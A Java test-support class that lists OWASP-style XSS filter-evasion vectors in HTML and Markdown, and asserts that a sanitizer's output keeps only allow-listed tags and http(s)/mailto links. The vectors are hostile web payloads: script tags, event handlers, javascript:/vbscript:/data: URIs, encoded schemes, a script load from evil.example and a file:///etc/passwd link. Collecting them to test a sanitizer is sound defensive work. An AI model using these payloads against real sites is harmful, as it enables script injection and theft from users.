package dev.parley.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;

/** OWASP filter-evasion style XSS vectors: every path that stores text must render each harmlessly. */
public final class XssCorpus {
    public static final List<String> VECTORS = List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<img src=`javascript:alert(1)`>",
                "<body onload=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<style>body{background:url(javascript:alert(1))}</style>",
                "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "[click](javascript:alert(1))",
                "[click](JaVaScRiPt:alert(1))",
                "[click](java\tscript:alert(1))",
                "[click](&#106;avascript:alert(1))",
                "[click](%6A%61vascript:alert(1))",
                "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[click](vbscript:msgbox(1))",
                "[click](VBScript:msgbox(1))",
                "[x](  javascript:alert(1)  )",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![x\" onerror=\"alert(1)](http://example.com/a.png)",
                "[x](http://example.com\" onclick=\"alert(1))",
                "<a href=\"http://ok.example\" onclick=\"alert(1)\">ok</a>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<form action=\"javascript:alert(1)\"><input type=submit></form>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<<script>script>alert(1)<</script>/script>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">",
                "<marquee onstart=alert(1)>",
                "```\n</code></pre><script>alert(1)</script>\n```",
                "`<script>alert(1)</script>`",
                "> <script>alert(1)</script>",
                "- <img src=x onerror=alert(1)>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "[x](file:///etc/passwd)");

    private static final Set<String> TAGS = Set.of("p", "br", "em", "strong", "code", "pre", "ul", "ol", "li",
            "blockquote", "a");

    /** Only allow-listed tags, http(s)/mailto links with the forced rel, nothing else. */
    public static void assertSafeHtml(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().select("*")) {
            if (element.tagName().equals("body")) {
                continue;
            }
            assertThat(TAGS).as("tag in %s", html).contains(element.tagName());
            for (Attribute attribute : element.attributes()) {
                switch (attribute.getKey()) {
                    case "href" -> assertThat(attribute.getValue()).as(html).matches("(?i)(https?:|mailto:).*");
                    case "rel" -> assertThat(attribute.getValue()).isEqualTo("nofollow ugc noopener");
                    case "start" -> assertThat(attribute.getValue()).matches("\\d+");
                    default -> throw new AssertionError("attribute " + attribute + " in " + html);
                }
            }
        }
    }

    private XssCorpus() {
    }
}
